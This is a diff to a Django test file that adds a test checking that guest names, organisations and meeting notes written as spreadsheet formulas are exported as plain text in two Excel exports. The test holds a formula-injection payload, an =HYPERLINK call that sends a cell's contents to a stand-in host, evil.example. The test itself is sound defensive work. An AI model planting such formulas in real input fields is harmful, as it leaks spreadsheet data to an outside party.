@@ -15,7 +15,7 @@ from grappe.core.tests.mail_backends import refusing_mail  # noqa: F401
 
 from grappe.events.models import Event, MeetingStatus, Phase, RequestStatus
 
-from .factories import make_request, place
+from .factories import make_request, place, register_guest
 
 pytestmark = pytest.mark.django_db
 
@@ -96,6 +96,29 @@ def test_the_outcomes_export_has_both_sides_accounts(staff_client, event, alpha,
     rows = list(sheet.iter_rows(values_only=True))
     assert len(rows) == 2
     assert "Devis pour 200 pièces" in rows[1]
+
+
+LEAK = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'
+
+
+def test_names_organisations_and_notes_typed_as_formulas_are_text_in_both_exports(staff_client, event, alpha):
+    guest = register_guest(event, guest_name=LEAK, guest_organisation="+Studio Externe")
+    meeting = place(make_request(alpha, guest, RequestStatus.ACCEPTED), 0, 1, MeetingStatus.PUBLISHED)
+    meeting.seats.filter(registration=alpha).update(happened=True, notes="-Devis pour 200 pièces")
+
+    def workbook(kind):
+        content = staff_client.get(reverse("events:organiser-export", args=[event.pk, kind])).content
+        return load_workbook(BytesIO(content)).active
+
+    attendance, outcomes = workbook("attendance"), workbook("outcomes")
+    typed = {"attendance": (attendance, [LEAK, "+Studio Externe"]),
+             "outcomes": (outcomes, [LEAK, "+Studio Externe", "-Devis pour 200 pièces"])}
+    for kind, (sheet, texts) in typed.items():
+        cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
+        for text in texts:
+            assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True), (kind, text)
+    planned_and_held = [(row[5].value, row[5].data_type) for row in attendance.iter_rows(min_row=2)]
+    assert planned_and_held == [(1, "n"), (1, "n")]  # counts stay numbers
 
 
 def test_the_follow_ups_list_meetings_with_a_quote_or_an_agreement(staff_client, event, alpha, bravo,
